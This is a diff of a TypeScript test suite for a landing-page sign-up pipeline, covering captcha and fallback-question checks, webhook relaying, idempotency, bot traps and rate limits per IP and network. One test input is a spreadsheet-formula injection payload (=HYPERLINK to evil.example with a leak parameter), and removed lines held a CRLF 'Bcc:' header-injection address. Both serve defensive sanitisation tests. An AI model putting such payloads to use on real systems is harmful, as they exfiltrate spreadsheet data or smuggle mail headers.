@@ -1,4 +1,4 @@
-import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
+import { mkdtemp, readFile, rm } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
@@ -9,10 +9,12 @@ import { SITEVERIFY_BURST, SITEVERIFY_CALLS_PER_SECOND } from "~/signup/captcha.
 import { Signup } from "~/signup/pipeline.server";
 import {
   FallbackQuestions,
-  NUMBER_WORDS,
   QUESTION_RELAYS_PER_ADDRESS,
+  QUESTION_RELAYS_PER_MINUTE,
+  QUESTION_RELAYS_PER_NETWORK,
   QUESTION_TTL_MS,
 } from "~/signup/question.server";
+import { RelayPace } from "~/signup/relay-pace.server";
 import { SignedTokens } from "~/signup/signed-tokens.server";
 import { memoryState } from "~/state/memory-state.server";
 import type { SharedState } from "~/state/shared-state.server";
@@ -92,6 +94,9 @@ const answering = (question: { token: string; text: string }, offset = 0) => ({
   challengeAnswer: String(solveQuestion(question.text) + offset),
 });
 
+/** A post's sender, behind the one trusted proxy. */
+const at = (ip: string) => ({ "x-forwarded-for": ip });
+
 /** A question's own count of answers, as the pipeline keeps it. */
 const answersLimit = () =>
   memoryState().limit({ name: "question-answers", points: 3, durationSeconds: 600, whenAway: "refuse" });
@@ -100,7 +105,7 @@ let tokenCount = 0;
 const token = () => `P1_token-${++tokenCount}-${Math.random().toString(36).slice(2)}`;
 
 describe("relaying a valid sign-up", () => {
-  it("POSTs exactly the five fields as JSON and answers success", async () => {
+  it("relays the visitor's e-mail, token, user agent and the time, and answers success", async () => {
     const signup = makeSignup();
     const captcha = token();
     const before = Date.now();
@@ -109,10 +114,7 @@ describe("relaying a valid sign-up", () => {
     expect(status).toBe(200);
     expect(result).toEqual({ ok: true, notice: SUCCESS, email: "", resetCaptcha: true });
     expect(standIn.received.webhook).toHaveLength(1);
-    const [received] = standIn.received.webhook;
-    expect(received!.headers["content-type"]).toBe("application/json");
-    const body = JSON.parse(received!.raw) as Record<string, string>;
-    expect(Object.keys(body)).toEqual(["email", "hcaptchaToken", "source", "ts", "userAgent"]);
+    const body = JSON.parse(standIn.received.webhook[0]!.raw) as Record<string, string>;
     expect(body).toMatchObject({
       email: "ana.souza@exemplo.com.br",
       hcaptchaToken: captcha,
@@ -124,39 +126,29 @@ describe("relaying a valid sign-up", () => {
     expect(Date.parse(body.ts!)).toBeLessThanOrEqual(Date.now());
   });
 
-  it("sends an empty userAgent when the browser sent none, and the configured source", async () => {
-    const signup = makeSignup({ SIGNUP_SOURCE: "lp-previdencia" });
-    const request = new Request("http://localhost/?index", {
-      method: "POST",
-      headers: { "content-type": "application/x-www-form-urlencoded" },
-      body: new URLSearchParams(formFields({ email: "bia@exemplo.com", hcaptchaToken: token() })),
-    });
-    request.headers.delete("user-agent");
-    await signup.handle(request);
-    expect(JSON.parse(standIn.received.webhook[0]!.raw)).toMatchObject({ userAgent: "", source: "lp-previdencia" });
-  });
-
-  it("relays a user agent that starts like a spreadsheet formula without its formula start", async () => {
-    const signup = makeSignup();
-    const formula = '=HYPERLINK("https://evil.example/?leak="&A2;"Clique aqui")';
-    await submit(signup, { email: "bia@exemplo.com", hcaptchaToken: token() }, { "user-agent": ` +-@${formula}` });
-    expect(JSON.parse(standIn.received.webhook[0]!.raw)).toMatchObject({ userAgent: formula.slice(1) });
-  });
-
-  it("accepts a 254-character address and refuses a 255-character one", async () => {
-    const signup = makeSignup();
-    const local = "a".repeat(64);
-    const domainOf = (length: number) => `${"b".repeat(length - 4)}.com`;
-    const ok = `${local}@${domainOf(254 - 65)}`;
-    const tooLong = `${local}@${domainOf(255 - 65)}`;
-    expect(ok).toHaveLength(254);
-    expect(tooLong).toHaveLength(255);
-    expect((await submit(signup, { email: ok, hcaptchaToken: token() })).status).toBe(200);
-    const refused = await submit(signup, { email: tooLong, hcaptchaToken: token() });
-    expect(refused.status).toBe(400);
-    expect(refused.result.notice).toEqual(INVALID_EMAIL);
-    expect(standIn.received.webhook).toHaveLength(1);
-  });
+  it.each([
+    ["none", undefined, ""],
+    [
+      "one that starts like a spreadsheet formula",
+      ' +-@=HYPERLINK("https://evil.example/?leak="&A2)',
+      '=HYPERLINK("https://evil.example/?leak="&A2)'.slice(1),
+    ],
+  ])(
+    "relays the configured source, and the user agent when the browser sent %s, without a formula's start",
+    async (_, sent, relayed) => {
+      const signup = makeSignup({ SIGNUP_SOURCE: "lp-previdencia" });
+      const request = post(
+        formFields({ email: "bia@exemplo.com", hcaptchaToken: token() }),
+        sent === undefined ? {} : { "user-agent": sent },
+      );
+      if (sent === undefined) request.headers.delete("user-agent");
+      await signup.handle(request);
+      expect(JSON.parse(standIn.received.webhook[0]!.raw)).toMatchObject({
+        userAgent: relayed,
+        source: "lp-previdencia",
+      });
+    },
+  );
 
   it("logs one structured line per outcome, with the e-mail masked and never the webhook URL", async () => {
     const signup = makeSignup();
@@ -179,27 +171,10 @@ describe("relaying a valid sign-up", () => {
 });
 
 describe("refusing bad input before anything is relayed", () => {
-  it.each([
-    "",
-    "   ",
-    "ana",
-    "ana@",
-    "@exemplo.com",
-    "ana@exemplo",
-    "ana@@exemplo.com",
-    "ana@exemplo..com",
-    "ana silva@exemplo.com",
-    "ana@exemplo.com\r\nBcc: x@y.com",
-  ])("%j → 400 'E-mail inválido', typed value echoed back", async (email) => {
-    const { status, result } = await submit(makeSignup(), { email, hcaptchaToken: token() });
+  it("an invalid e-mail → 400 'E-mail inválido' before the captcha is read, the typed value echoed back", async () => {
+    const { status, result } = await submit(makeSignup(), { email: "ana@", hcaptchaToken: "" });
     expect(status).toBe(400);
-    expect(result).toMatchObject({ ok: false, notice: INVALID_EMAIL, email, resetCaptcha: false });
-    expect(standIn.received.webhook).toHaveLength(0);
-  });
-
-  it("checks the e-mail before the captcha", async () => {
-    const { result } = await submit(makeSignup(), { email: "ana@", hcaptchaToken: "" });
-    expect(result.notice).toEqual(INVALID_EMAIL);
+    expect(result).toMatchObject({ ok: false, notice: INVALID_EMAIL, email: "ana@", resetCaptcha: false });
   });
 
   it("asks for the captcha when no token came, keeping the e-mail", async () => {
@@ -220,7 +195,6 @@ describe("webhook faults", () => {
     [string, () => Promise<Record<string, string>> | Record<string, string>, () => void, string, number]
   > = [
     ["connection refused", async () => ({ WEBHOOK_URL: await closedPortUrl() }), () => {}, FALLBACK.description, 0],
-    ["connection reset", () => ({}), () => (standIn.webhook = { status: 200, reset: true }), FALLBACK.description, 1],
     [
       "500 with text",
       () => ({}),
@@ -233,13 +207,6 @@ describe("webhook faults", () => {
       () => ({}),
       () => (standIn.webhook = { status: 404, text: "" }),
       "Webhook retornou 404 Not Found",
-      1,
-    ],
-    [
-      "429",
-      () => ({}),
-      () => (standIn.webhook = { status: 429, text: "slow down" }),
-      "Webhook retornou 429 Too Many Requests: slow down",
       1,
     ],
   ];
@@ -277,28 +244,20 @@ describe("webhook faults", () => {
     expect(standIn.bodyBytesSent).toBeLessThan(10 * 1024 * 1024);
   });
 
-  it("a failed relay can be retried with the same proof, under the same Idempotency-Key", async () => {
+  it("a failed relay is relayed again on the next press, with the same captcha or a new one, under the same Idempotency-Key (the automation can drop a double)", async () => {
     const signup = makeSignup();
     const captcha = token();
+    // The webhook took it but the answer never came: the visitor was told it failed.
+    standIn.webhook = { status: 200, reset: true };
+    expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: captcha })).status).toBe(502);
     standIn.webhook = { status: 503, text: "" };
     expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: captcha })).status).toBe(502);
     standIn.webhook = { status: 200 };
-    expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: captcha })).status).toBe(200);
-    const keys = standIn.received.webhook.map((hit) => hit.headers["idempotency-key"]);
-    expect(keys).toHaveLength(2);
-    expect(keys[0]).toMatch(/^[A-Za-z0-9_-]{43}$/);
-    expect(keys[1]).toBe(keys[0]);
-  });
-
-  it("a retry with a new captcha is the same sign-up: the same Idempotency-Key, so the automation can drop a double", async () => {
-    const signup = makeSignup();
-    // The webhook took it but the answer never came: the visitor was told it failed.
-    standIn.webhook = { status: 200, reset: true };
-    expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: token() })).status).toBe(502);
-    standIn.webhook = { status: 200 };
     expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: token() })).status).toBe(200);
-    const [unanswered, relayed] = standIn.received.webhook.map((hit) => hit.headers["idempotency-key"]);
-    expect(relayed).toBe(unanswered);
+    const keys = standIn.received.webhook.map((hit) => hit.headers["idempotency-key"]);
+    expect(keys).toHaveLength(3);
+    expect(keys[0]).toMatch(/^[A-Za-z0-9_-]{43}$/);
+    expect(new Set(keys).size).toBe(1);
   });
 });
 
@@ -373,15 +332,6 @@ describe("the fallback question", () => {
     });
   });
 
-  it("accepts the answer written in words", async () => {
-    const signup = makeSignup();
-    const { challengeToken, challengeAnswer } = answered(signup);
-    const inWords = NUMBER_WORDS[Number(challengeAnswer)]!.toUpperCase();
-    expect(
-      (await submit(signup, { email: "ana@exemplo.com.br", challengeToken, challengeAnswer: inWords })).status,
-    ).toBe(200);
-  });
-
   it("a wrong answer → 400 with a clear message and a new question, e-mail kept", async () => {
     const signup = makeSignup();
     const proof = answered(signup, 1);
@@ -422,35 +372,39 @@ describe("the fallback question", () => {
     }
   });
 
-  it("an expired question → 'Pergunta expirada' and a new one", async () => {
+  it("a question expired, signed with another secret or with its expiry spelled otherwise → 'Pergunta expirada' and a new one", async () => {
     const signup = makeSignup();
-    const questions = new FallbackQuestions(new SignedTokens(SECRET), answersLimit(), "");
-    const old = questions.ask(Date.now() - QUESTION_TTL_MS - 1);
-    const { status, result } = await submit(signup, {
-      email: "ana@exemplo.com.br",
-      ...answering(old),
-    });
-    expect(status).toBe(400);
-    expect(result.notice.title).toBe("Pergunta expirada");
-    expect(result.question).toBeDefined();
+    const questionsUnder = (secret: string) => new FallbackQuestions(new SignedTokens(secret), answersLimit(), "");
+    const live = signup.formTokens().question;
+    const [id, expiry, mac] = live.token.split(".") as [string, string, string];
+    const tokens = [
+      questionsUnder(SECRET).ask(Date.now() - QUESTION_TTL_MS - 1),
+      questionsUnder("another-secret-another-secret-000").ask(),
+      ...[`0${expiry}`, `+${expiry}`, `${expiry}e0`, ` ${expiry}`].map((spelling) => ({
+        ...live,
+        token: `${id}.${spelling}.${mac}`,
+      })),
+    ];
+    for (const question of tokens) {
+      const { status, result } = await submit(signup, { email: "ana@exemplo.com.br", ...answering(question) });
+      expect([status, result.notice.title, result.question?.text]).toEqual([
+        400,
+        "Pergunta expirada",
+        expect.stringMatching(/^Quanto é/),
+      ]);
+    }
+    expect(standIn.received.webhook).toHaveLength(0);
   });
 
-  it("a question signed with another secret is not accepted", async () => {
-    const forged = new FallbackQuestions(
-      new SignedTokens("another-secret-another-secret-000"),
-      answersLimit(),
-      "",
-    ).ask();
-    const { status } = await submit(makeSignup(), {
-      email: "ana@exemplo.com.br",
-      ...answering(forged),
-    });
-    expect(status).toBe(400);
-  });
-
-  it("one question takes three answers at most", async () => {
+  it("one question takes three correct answers at most; wrong ones spend none", async () => {
     const signup = makeSignup({ TRUST_PROXY: "1" });
     const proof = answered(signup);
+    for (let attempt = 0; attempt < 5; attempt++)
+      await submit(signup, {
+        email: `bot${attempt}@exemplo.com`,
+        ...answered(signup, 1),
+        challengeToken: proof.challengeToken,
+      });
     const statuses: number[] = [];
     for (const [index, email] of ["a@exemplo.com", "b@exemplo.com", "c@exemplo.com", "d@exemplo.com"].entries()) {
       statuses.push((await submit(signup, { email, ...proof }, { "x-forwarded-for": `203.0.113.${index}` })).status);
@@ -461,7 +415,6 @@ describe("the fallback question", () => {
   it(`one sender's address relays ${QUESTION_RELAYS_PER_ADDRESS.perMinute} a minute and ${QUESTION_RELAYS_PER_ADDRESS.perHour} an hour; answers for a listed address spend none, and are refused alike once they are spent`, async () => {
     vi.useFakeTimers({ toFake: ["Date"] });
     const signup = makeSignup({ TRUST_PROXY: "1" });
-    const at = (ip: string) => ({ "x-forwarded-for": ip });
     /** Each answer to a question nobody else answered, for a new address unless told one. */
     const answer = async (ip: string, email = `novo${++tokenCount}@exemplo.com`) => {
       const { status } = await submit(signup, { email, ...answering(signup.formTokens().question!) }, at(ip));
@@ -481,19 +434,61 @@ describe("the fallback question", () => {
     expect(await answer("198.51.100.7")).toBe(200);
   });
 
-  it("an answer refused for its sender's share leaves the question's answers to the other visitors of its render", async () => {
+  it("a script answering each second's question for three addresses it listed takes none of its answers: twelve visitors without JavaScript, one a second, each sign up on the first press", async () => {
+    vi.useFakeTimers({ toFake: ["Date"] });
     const signup = makeSignup({ TRUST_PROXY: "1" });
-    const from = (ip: string) => ({ "x-forwarded-for": ip });
-    const bot = "198.51.100.7";
-    for (const email of ["a@exemplo.com", "b@exemplo.com"]) {
-      await submit(signup, { email, ...answering(signup.formTokens(Date.now() - 5_000).question!) }, from(bot));
+    const listed = ["um@exemplo.com", "dois@exemplo.com", "tres@exemplo.com"];
+    for (const [index, email] of listed.entries())
+      await submit(
+        signup,
+        { email, ...answering(signup.formTokens(Date.now() - 5_000).question) },
+        at(`192.0.2.${index}`),
+      );
+    const script: string[] = [];
+    const visitors: number[] = [];
+    for (let second = 0; second < 12; second++) {
+      const question = signup.formTokens().question;
+      for (const email of listed)
+        script.push((await submit(signup, { email, ...answering(question) }, at("198.51.100.7"))).result.notice.title);
+      const visitor = { email: `visitante${second}@exemplo.com.br`, ...answering(question) };
+      visitors.push((await submit(signup, visitor, at(`203.0.113.${second}`))).status);
+      vi.advanceTimersByTime(1_000);
     }
-    const shared = answered(signup);
-    const statuses = [(await submit(signup, { email: "c@exemplo.com", ...shared }, from(bot))).status];
-    for (const [index, email] of ["d@exemplo.com", "e@exemplo.com", "f@exemplo.com"].entries()) {
-      statuses.push((await submit(signup, { email, ...shared }, from(`203.0.113.${index}`))).status);
+    expect(new Set(script)).toEqual(new Set([SUCCESS.title]));
+    expect(visitors).toEqual(Array(12).fill(200));
+  });
+
+  it(`ten /64s of one /48 relay ${QUESTION_RELAYS_PER_NETWORK.perMinute} a minute and ${QUESTION_RELAYS_PER_NETWORK.perHour} an hour in all, and cannot close the question for anyone else`, async () => {
+    vi.useFakeTimers({ toFake: ["Date"] });
+    const signup = makeSignup({ TRUST_PROXY: "1" });
+    const answer = async (ip: string) => {
+      const fields = { email: `novo${++tokenCount}@exemplo.com`, ...answering(signup.formTokens().question) };
+      vi.advanceTimersByTime(1_000);
+      return (await submit(signup, fields, at(ip))).status;
+    };
+    const minutes: number[][] = [];
+    for (let minute = 0; minute < 6; minute++) {
+      const statuses: number[] = [];
+      for (let subnet = 0; subnet < 10; subnet++) statuses.push(await answer(`2001:db8:48:${subnet}::1`));
+      minutes.push(statuses);
+      vi.advanceTimersByTime(60_000);
     }
-    expect(statuses).toEqual([429, 200, 200, 200]);
+    const { perMinute } = QUESTION_RELAYS_PER_NETWORK;
+    const open = [...Array(perMinute).fill(200), ...Array(10 - perMinute).fill(429)];
+    expect(minutes).toEqual([...Array(5).fill(open), Array(10).fill(429)]);
+    expect(await answer("2001:db8:49::1")).toBe(200);
+  });
+
+  it("after a secret's rotation, an invalid e-mail posted with a page from before it gets that page's question back", async () => {
+    const state = memoryState();
+    const question = makeSignup({}, state).formTokens().question;
+    const rotated = makeSignup(
+      { SIGNUP_SECRET: "rotated-signing-secret-0123456789", SIGNUP_SECRET_PREVIOUS: SECRET },
+      state,
+    );
+    const proof = answering(question);
+    const refused = await submit(rotated, { email: "ana@exemplo", ...proof });
+    expect([refused.result.question, refused.result.answer]).toEqual([question, proof.challengeAnswer]);
   });
 
   it("forged question ids are refused before any bookkeeping: nothing is counted for hundreds of them, and a genuine question still works", async () => {
@@ -520,7 +515,7 @@ describe("the fallback question", () => {
       );
       expect(status).toBe(400);
     }
-    expect(counted).toEqual([]);
+    expect(counted.filter((name) => name !== "form-presses")).toEqual([]);
     const person = await submit(
       signup,
       { email: "pessoa@exemplo.com.br", ...answering(question) },
@@ -545,23 +540,20 @@ describe("the fallback question", () => {
 });
 
 describe("replays", () => {
-  it("the same e-mail and token again answers success without a second relay", async () => {
-    const signup = makeSignup();
-    const captcha = token();
-    const first = await submit(signup, { email: "Ana@Exemplo.com.br", hcaptchaToken: captcha });
-    const second = await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: captcha });
-    expect(first.result.ok && second.result.ok).toBe(true);
-    expect(second.result.notice).toEqual(SUCCESS);
-    expect(standIn.received.webhook).toHaveLength(1);
-  });
-
-  it("the NFD and NFC spellings of one address, with one captcha token, are one sign-up relayed in NFC", async () => {
-    const signup = makeSignup();
-    const captcha = token();
-    expect((await submit(signup, { email: "joa\u0303o@exemplo.com.br", hcaptchaToken: captcha })).status).toBe(200);
-    expect((await submit(signup, { email: "jo\u00e3o@exemplo.com.br", hcaptchaToken: captcha })).status).toBe(200);
-    expect(standIn.relayedEmails()).toEqual(["jo\u00e3o@exemplo.com.br"]);
-  });
+  it.each([
+    ["a captcha token", () => ({ hcaptchaToken: token() })],
+    ["a question's answer", (signup: Signup) => answering(signup.formTokens().question)],
+  ])(
+    "the same e-mail (another spelling of it: case, NFD) with the same %s again answers success without a second relay",
+    async (_, proof) => {
+      const signup = makeSignup();
+      const fields = proof(signup);
+      const first = await submit(signup, { email: "Joa\u0303o@Exemplo.com.br", ...fields });
+      const second = await submit(signup, { email: "Jo\u00e3o@exemplo.com.br", ...fields });
+      expect([first.result.notice, second.result.notice]).toEqual([SUCCESS, SUCCESS]);
+      expect(standIn.relayedEmails()).toEqual(["Jo\u00e3o@exemplo.com.br"]);
+    },
+  );
 
   it("five identical posts at once (a double click, a retry) relay once and all succeed", async () => {
     standIn.webhook = { status: 200, delayMs: 100 };
@@ -569,15 +561,6 @@ describe("replays", () => {
     const fields = { email: "ana@exemplo.com.br", hcaptchaToken: token() };
     const answers = await Promise.all(Array.from({ length: 5 }, () => submit(signup, fields)));
     expect(answers.map((answer) => answer.status)).toEqual([200, 200, 200, 200, 200]);
-    expect(standIn.received.webhook).toHaveLength(1);
-  });
-
-  it("a replayed fallback answer is not relayed twice", async () => {
-    const signup = makeSignup();
-    const question = signup.formTokens().question!;
-    const fields = { email: "ana@exemplo.com.br", ...answering(question) };
-    expect((await submit(signup, fields)).status).toBe(200);
-    expect((await submit(signup, fields)).status).toBe(200);
     expect(standIn.received.webhook).toHaveLength(1);
   });
 });
@@ -637,24 +620,6 @@ describe("bot trap", () => {
     expect(again.status).toBe(200);
     expect(standIn.relayedEmails()).toEqual(["ana@exemplo.com.br"]);
   });
-
-  it("a post without the bot-trap fields is a bot too", async () => {
-    const { result } = await makeSignup().handle(post({ email: "bot@exemplo.com", hcaptchaToken: token() }));
-    expect(result.ok).toBe(true);
-    expect(standIn.received.webhook).toHaveLength(0);
-  });
-
-  it("a form posted sooner than the minimum time after rendering is a bot; later it is relayed", async () => {
-    vi.useFakeTimers({ toFake: ["Date"] });
-    const signup = makeSignup();
-    const fields = { ...pageFields(signup.formTokens()), email: "ana@exemplo.com.br", hcaptchaToken: token() };
-    vi.advanceTimersByTime(MIN_SUBMIT_MS - 500);
-    expect((await signup.handle(post(fields))).result.ok).toBe(true);
-    expect(standIn.received.webhook).toHaveLength(0);
-    vi.advanceTimersByTime(500);
-    expect((await signup.handle(post(fields))).result.ok).toBe(true);
-    expect(standIn.received.webhook).toHaveLength(1);
-  });
 });
 
 describe("limits that fit real networks", () => {
@@ -680,6 +645,7 @@ describe("limits that fit real networks", () => {
     submit(signup, { email: "pessoa@exemplo.com.br", hcaptchaToken: token() }, headers);
 
   it(`${AT_ONCE} genuine sign-ups at once from one address (a carrier NAT) are all relayed`, async () => {
+    freezeClock();
     const signup = verifying();
     const answers = await Promise.all(
       Array.from({ length: AT_ONCE }, (_, index) =>
@@ -696,6 +662,7 @@ describe("limits that fit real networks", () => {
   ])(
     "200 forged tokens at once from one address cost the rate and burst in siteverify calls whatever siteverify does (%s); the rest are refused before any call and keep their captcha; other addresses are unaffected",
     async (_what, siteverify, verifiedStatus) => {
+      freezeClock();
       standIn.siteverify = siteverify;
       const signup = verifying();
       const answers = await forgedAtOnce(signup, 200, from("203.0.113.9"));
@@ -732,6 +699,7 @@ describe("limits that fit real networks", () => {
   });
 
   it("without trusted proxies the socket's address is the sender, whatever X-Forwarded-For says", async () => {
+    freezeClock();
     const signup = verifying({ TRUST_PROXY: "0" });
     const peer = (ip: string, forwarded: string) => ({ "x-landing-peer-address": ip, "x-forwarded-for": forwarded });
     await forgedAtOnce(signup, AT_ONCE, (index) => peer("203.0.113.5", `198.51.100.${index}`));
@@ -740,31 +708,20 @@ describe("limits that fit real networks", () => {
   });
 
   it("requests whose sender cannot be told share one rate: the limit fails closed", async () => {
+    freezeClock();
     const signup = verifying();
     const unreadable = ["", "garbage", "999.1.1.1", "not-an-ip", "::zz"];
     await forgedAtOnce(signup, AT_ONCE, (index) => ({ "x-forwarded-for": unreadable[index % 5]! }));
     expect((await genuine(signup, { "x-forwarded-for": "" })).status).toBe(429);
   });
 
-  it("one IPv6 /64 is one sender, and spellings of one address are one sender", async () => {
+  it("one IPv6 /64 is one sender", async () => {
     freezeClock();
     const signup = verifying();
     const sixtyFour = ["2001:db8:1:2::1", "2001:DB8:1:2:ffff:0:0:9", "[2001:db8:1:2::7]:443"];
-    const ipv4 = ["203.0.113.9", "203.0.113.9:5678", "::ffff:203.0.113.9", "[::ffff:cb00:7109]:80"];
-    await Promise.all(
-      [sixtyFour, ipv4].flatMap((spellings, sender) =>
-        Array.from({ length: AT_ONCE }, (_, index) =>
-          submit(
-            signup,
-            { email: `bot${sender}-${index}@exemplo.com`, hcaptchaToken: `forged-${sender}-${index}` },
-            { "x-forwarded-for": spellings[index % spellings.length]! },
-          ),
-        ),
-      ),
-    );
+    await forgedAtOnce(signup, AT_ONCE, (index) => ({ "x-forwarded-for": sixtyFour[index % sixtyFour.length]! }));
     const next = (forwarded: string) => genuine(signup, { "x-forwarded-for": forwarded });
     expect((await next("2001:db8:1:2::8")).status).toBe(429);
-    expect((await next("203.0.113.9")).status).toBe(429);
     expect((await next("2001:db8:1:3::1")).status).toBe(200);
   });
 
@@ -808,6 +765,7 @@ describe("limits that fit real networks", () => {
   });
 
   it("the global relay ceiling protects the webhook with 429", async () => {
+    freezeClock();
     const signup = makeSignup({ RELAY_LIMIT_PER_SECOND: "2" });
     const statuses = [];
     for (const email of ["a@exemplo.com", "b@exemplo.com", "c@exemplo.com"]) {
@@ -828,13 +786,62 @@ describe("one relay per address a day", () => {
     expect(JSON.parse(logs[1]!)).toMatchObject({ outcome: "known-email", status: 200 });
   });
 
-  it("an address whose relay failed is relayed on the next try", async () => {
+  it("a listed address is answered when a new one would be: after the automation's 600 ms, in the same words", async () => {
+    freezeClock();
+    standIn.webhook = { status: 200, hold: true };
+    const paced = vi.spyOn(RelayPace.prototype, "waitFrom");
     const signup = makeSignup();
-    standIn.webhook = { status: 503, text: "" };
-    expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: token() })).status).toBe(502);
-    standIn.webhook = { status: 200 };
-    expect((await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: token() })).status).toBe(200);
-    expect(standIn.relayedEmails()).toEqual(["ana@exemplo.com.br", "ana@exemplo.com.br"]);
+    const newAddress = submit(signup, { email: "listada@exemplo.com.br", hcaptchaToken: token() });
+    await standIn.arrived("webhook");
+    vi.advanceTimersByTime(600);
+    standIn.releaseWebhook();
+    const asNew = await newAddress;
+    let answered = false;
+    const listed = submit(signup, { email: "listada@exemplo.com.br", hcaptchaToken: token() }).then((answer) => {
+      answered = true;
+      return answer;
+    });
+    while (paced.mock.calls.length === 0) await new Promise((resolve) => setImmediate(resolve));
+    await vi.advanceTimersByTimeAsync(599);
+    expect(answered).toBe(false);
+    await vi.advanceTimersByTimeAsync(1);
+    const { status, result } = await listed;
+    expect({ status, result }).toEqual({ status: asNew.status, result: asNew.result });
+  });
+
+  it("once the question's budget is spent, a listed address is refused like a new one", async () => {
+    vi.useFakeTimers({ toFake: ["Date"] });
+    const signup = makeSignup({ TRUST_PROXY: "1" });
+    const answer = async (email: string, ip: string) => {
+      const fields = { email, ...answering(signup.formTokens().question) };
+      vi.advanceTimersByTime(1_000);
+      const { status, result } = await submit(signup, fields, at(ip));
+      return [status, result.notice.title];
+    };
+    for (let index = 0; index < QUESTION_RELAYS_PER_MINUTE; index++)
+      expect(await answer(`lista${index}@exemplo.com`, `203.0.113.${index}`)).toEqual([200, SUCCESS.title]);
+    const refused = [429, "Muitos cadastros sem captcha"];
+    expect(await answer("lista0@exemplo.com", "198.51.100.1")).toEqual(refused);
+    expect(await answer("ninguem@exemplo.com", "198.51.100.2")).toEqual(refused);
+  });
+});
+
+describe("presses of 'Cadastrar' (what PrevlyFormBroken counts)", () => {
+  it("count once per network (IPv4 address, IPv6 /48) an hour, whatever the bot trap made of them; a post without the form's fields, never", async () => {
+    freezeClock();
+    const signup = makeSignup({ TRUST_PROXY: "1" });
+    const fields = { email: "ana@exemplo.com.br", hcaptchaToken: "" };
+    const press = async (ip: string, form = formFields(fields)) => (await signup.handle(post(form, at(ip)))).pressed;
+    const bot = { ...formFields(fields), name__confirm: "Robô" };
+    expect([
+      await press("2001:db8:5:1::1"),
+      await press("2001:db8:5:2::1"),
+      await press("203.0.113.7"),
+      await press("203.0.113.8", bot),
+      await press("203.0.113.9", fields),
+    ]).toEqual([true, false, true, true, false]);
+    vi.advanceTimersByTime(60 * 60_000);
+    expect(await press("2001:db8:5:3::1")).toBe(true);
   });
 });
 
@@ -880,14 +887,5 @@ describe("the embedded default: a JSON-lines file when no webhook is configured"
       .split("\n")
       .map((line) => (JSON.parse(line) as { email: string }).email);
     expect(new Set(emails).size).toBe(40);
-  });
-
-  it("a file that cannot be opened for appending is refused when the pipeline is built", async () => {
-    const notAFolder = join(dir, "not-a-folder");
-    await writeFile(notAFolder, "");
-    const file = join(notAFolder, "signups.jsonl");
-    expect(() => makeSignup({ WEBHOOK_URL: "", SIGNUPS_FILE: file })).toThrowError(
-      `Invalid configuration: SIGNUPS_FILE cannot be opened for appending (EEXIST: ${file})`,
-    );
   });
 });
